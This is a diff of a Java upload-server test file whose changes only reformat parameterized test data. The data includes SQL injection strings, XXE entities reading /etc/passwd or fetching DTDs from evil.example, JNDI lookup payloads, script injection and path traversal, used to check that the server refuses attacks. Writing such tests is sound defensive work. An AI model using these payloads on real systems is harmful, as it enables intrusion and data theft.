@@ -20,19 +20,18 @@ class UploadTests extends WaysTest {
 			+ "<path class=\"a\" fill=\"url(#b)\" d=\"M10 10 L 20 20 z\"/><text>O'Neill &amp; Sons</text></svg>";
 
 	@ParameterizedTest
-	@CsvSource(delimiter = '|',
-			textBlock = """
-					a.txt|text/plain|x' union select password from users where 'a'='a
-					a.sql|application/sql|select password from users where 'a'='a' -- dump
-					a.sh|text/x-sh|#!/bin/sh; cat /etc/passwd
-					a.md|text/markdown|Use `' or 1=1 --` to try it
-					a.html|text/html|<!DOCTYPE html><script>alert(1)</script>
-					a.csv|text/csv|name,city;O'Neill,Cork;"Smith, John",'s-Hertogenbosch
-					a.yaml|application/yaml|name: it's here
-					a.json|application/json|{"name":"O'Neill","list":[1,2,"x = y"]}
-					a.json|application/json|{ not json at all' or 'a'='a
-					a.java|text/plain|Runtime.getRuntime().exec("id");
-					""")
+	@CsvSource(delimiter = '|', textBlock = """
+			a.txt|text/plain|x' union select password from users where 'a'='a
+			a.sql|application/sql|select password from users where 'a'='a' -- dump
+			a.sh|text/x-sh|#!/bin/sh; cat /etc/passwd
+			a.md|text/markdown|Use `' or 1=1 --` to try it
+			a.html|text/html|<!DOCTYPE html><script>alert(1)</script>
+			a.csv|text/csv|name,city;O'Neill,Cork;"Smith, John",'s-Hertogenbosch
+			a.yaml|application/yaml|name: it's here
+			a.json|application/json|{"name":"O'Neill","list":[1,2,"x = y"]}
+			a.json|application/json|{ not json at all' or 'a'='a
+			a.java|text/plain|Runtime.getRuntime().exec("id");
+			""")
 	void fileWhenHonestThenIsReadAsSent(String name, String type, String content) throws Exception {
 		assertThat(upload("filename=\"" + name + "\"", type, content.replace(';', '\n')).body())
 			.isEqualTo(content.replace(';', '\n'));
@@ -48,18 +47,19 @@ class UploadTests extends WaysTest {
 	}
 
 	@ParameterizedTest
-	@CsvSource(delimiter = '|', textBlock = """
-			a.svg|image/svg+xml|<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>
-			a.png|image/png|<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>
-			a.xml|text/plain|<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
-			a.bin|application/octet-stream|<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "http://e.example/b"> %b;]><a/>
-			a.xml|application/xml|<a b="x' union select password from users where 'a'='a"/>
-			a.json|application/json|{"a":["x' union select password from users where 'a'='a"]}
-			a.csv|text/csv|name,x' union select password from users where 'a'='a
-			a.csv|application/octet-stream|name;"${jndi:ldap://evil.example/a}",1
-			a.yml|text/plain|a:; - "${jndi:ldap://evil.example/a}"
-			a.yaml|application/yaml|a: x' union select password from users where 'a'='a
-			""")
+	@CsvSource(delimiter = '|',
+			textBlock = """
+					a.svg|image/svg+xml|<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>
+					a.png|image/png|<!DOCTYPE svg SYSTEM "http://evil.example/a.dtd"><svg/>
+					a.xml|text/plain|<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>
+					a.bin|application/octet-stream|<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % b SYSTEM "http://e.example/b"> %b;]><a/>
+					a.xml|application/xml|<a b="x' union select password from users where 'a'='a"/>
+					a.json|application/json|{"a":["x' union select password from users where 'a'='a"]}
+					a.csv|text/csv|name,x' union select password from users where 'a'='a
+					a.csv|application/octet-stream|name;"${jndi:ldap://evil.example/a}",1
+					a.yml|text/plain|a:; - "${jndi:ldap://evil.example/a}"
+					a.yaml|application/yaml|a: x' union select password from users where 'a'='a
+					""")
 	void fileWhenItsTextIsAnAttackThenIsRefused(String name, String type, String content) throws Exception {
 		WaysServer.assertRefused(upload("filename=\"" + name + "\"", type, content.replace(';', '\n')));
 	}
@@ -80,8 +80,8 @@ class UploadTests extends WaysTest {
 			"FileName=\"..\\\\..\\\\..\\\\windows\\\\win.ini\"; filename=b" })
 	void namesWhenOneIsAnAttackThenAreRefused(String names) throws Exception {
 		WaysServer.assertRefused(upload(names, "text/plain", "x"));
-		WaysServer.assertRefused(server().post("/read/now/stream", "multipart/mixed; boundary=b",
-				body(names, "text/plain", "x")));
+		WaysServer.assertRefused(
+				server().post("/read/now/stream", "multipart/mixed; boundary=b", body(names, "text/plain", "x")));
 	}
 
 	@ParameterizedTest
